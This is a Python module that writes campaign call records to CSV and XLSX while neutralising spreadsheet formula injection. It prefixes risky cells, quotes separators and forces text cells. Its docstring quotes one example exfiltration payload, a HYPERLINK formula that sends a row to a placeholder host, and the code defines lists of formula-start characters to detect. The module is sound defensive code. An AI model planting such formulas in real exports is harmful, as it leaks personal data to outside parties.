"""Exporting a campaign's calls to CSV or XLSX, safe to open in a spreadsheet.

Contact fields come from whoever filled the contact file. A cell that starts with ``=``,
``+``, ``-``, ``@``, a tab or a carriage return is a formula to a spreadsheet (a name
like ``=HYPERLINK("http://x/?"&A1,"x")`` sends the row away when clicked), so text
cells are neutralised (OWASP's rule for CSV injection):

- CSV: such a text gets a leading ``'``, which spreadsheets show as text. A spreadsheet
  may split the file on another separator than ``,`` (French Excel splits on ``;``, a
  paste on tabs) and, quotes seen only at a field's start, then starts a cell after any
  ``;``, tab or line break inside a text: a text holding one is quoted, and a ``'`` goes
  after each one that a formula start follows (``ACME;=2+5`` -> ``"ACME;'=2+5"``);
- XLSX: every text is written as a text cell (never a formula), and such a text also
  carries Excel's "quote prefix" style, so editing the cell does not revive it.

Numbers and dates are written as numbers and dates. Sheet titles are cut to Excel's 31
characters without its forbidden ``\\ / ? * [ ] :``.

:func:`export_rows` reads the rows, :func:`write_csv` / :func:`write_xlsx` write any rows
over any columns, so another export (captures, ...) reuses the same safe writers.
"""

from __future__ import annotations

import json
import re
from collections.abc import Iterable, Mapping, Sequence
from datetime import UTC, datetime
from pathlib import Path
from typing import Any, BinaryIO, TextIO

from mbs.campaign.store import EXPORT_COLUMNS, Store

__all__ = [
    "EXPORT_COLUMNS",
    "FORMULA_STARTS",
    "export_rows",
    "neutralise",
    "sheet_title",
    "write_csv",
    "write_xlsx",
]

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
_SHEET_FORBIDDEN = re.compile(r"[\\/?*\[\]:\x00-\x1f]")
# where some spreadsheet starts a new cell inside a CSV text (see the module docstring)
_CSV_BREAKS = ";\t\r\n"
_CSV_QUOTED = frozenset(',"' + _CSV_BREAKS)
# just after a break, before (quotes and) a formula start: the place for a "'"
# (spaces, non-breaking ones too, may come first: a spreadsheet that trims them on
# import would find the formula)
_CSV_CELL_FORMULA = re.compile(r'(?<=[;\t\r\n])(?=[\s"]*[=+\-@\t\r])')


def export_rows(store: Store, campaign: str) -> list[dict[str, Any]]:
    """Every call attempt of ``campaign`` with its contact (:data:`EXPORT_COLUMNS`)."""
    return list(store.export_calls(campaign))


def looks_like_formula(text: str) -> bool:
    """Whether a spreadsheet could read ``text`` as a formula: it starts with one, after
    spaces too (non-breaking ones included), which some imports trim."""
    return text.startswith(FORMULA_STARTS) or text.lstrip().startswith(FORMULA_STARTS)


def neutralise(text: str) -> str:
    """``text`` as a spreadsheet must show it: a leading ``'`` when it would be a formula."""
    return "'" + text if looks_like_formula(text) else text


def sheet_title(name: str) -> str:
    """A valid Excel sheet title for ``name`` (at most 31 characters, none forbidden)."""
    title = _SHEET_FORBIDDEN.sub("_", name).strip("'")[:31].strip()
    return title or "calls"


def _text(value: Any) -> Any:
    """A cell's value: datetimes in ISO 8601, lists and dicts in JSON, None empty."""
    if isinstance(value, datetime):
        return value.isoformat()
    if isinstance(value, list | dict):
        return json.dumps(value, ensure_ascii=False)
    return "" if value is None else value


def write_csv(
    rows: Iterable[Mapping[str, Any]], stream: TextIO, columns: Sequence[str] = EXPORT_COLUMNS
) -> int:
    """Write ``rows`` (a header, then one line each) to ``stream``; the number of rows."""
    stream.write(_csv_line(list(columns)))
    count = 0
    for row in rows:
        cells = [_text(row.get(column)) for column in columns]
        stream.write(_csv_line([_csv_text(c) if isinstance(c, str) else c for c in cells]))
        count += 1
    return count


def _csv_text(text: str) -> str:
    """``text`` neutralised at its start and after every ``;``, tab or line break in it."""
    return neutralise(_CSV_CELL_FORMULA.sub("'", text))


def _csv_line(cells: list[Any]) -> str:
    """One CSV line as :mod:`csv` writes it, except that a text holding ``;`` or a tab is
    quoted too (:mod:`csv` quotes only its own delimiter, quotes and line breaks)."""
    fields = []
    for cell in cells:
        text = "" if cell is None else str(cell)
        if not _CSV_QUOTED.isdisjoint(text) or (text == "" and len(cells) == 1):
            text = '"' + text.replace('"', '""') + '"'
        fields.append(text)
    return ",".join(fields) + "\r\n"


def write_xlsx(
    rows: Iterable[Mapping[str, Any]],
    target: Path | BinaryIO,
    sheet: str,
    columns: Sequence[str] = EXPORT_COLUMNS,
) -> int:
    """Write ``rows`` to the workbook ``target`` (one sheet titled from ``sheet``)."""
    from openpyxl import Workbook
    from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE, Cell

    book = Workbook()
    page = book.active
    assert page is not None
    page.title = sheet_title(sheet)

    def cell(value: Any) -> Cell | Any:
        if isinstance(value, datetime):  # Excel has no time zones: UTC, naive
            return value.astimezone(UTC).replace(tzinfo=None)
        if isinstance(value, list | dict):
            value = json.dumps(value, ensure_ascii=False)
        if not isinstance(value, str):
            return value
        c = Cell(page, value=ILLEGAL_CHARACTERS_RE.sub("", value))
        c.data_type = "s"  # a text cell, whatever it starts with (never a formula)
        if looks_like_formula(value):
            c.quotePrefix = True  # Excel keeps it text even once edited
            c.number_format = "@"
        return c

    page.append(list(columns))
    count = 0
    for row in rows:
        page.append([cell(row.get(column)) for column in columns])
        count += 1
    book.save(target)
    return count
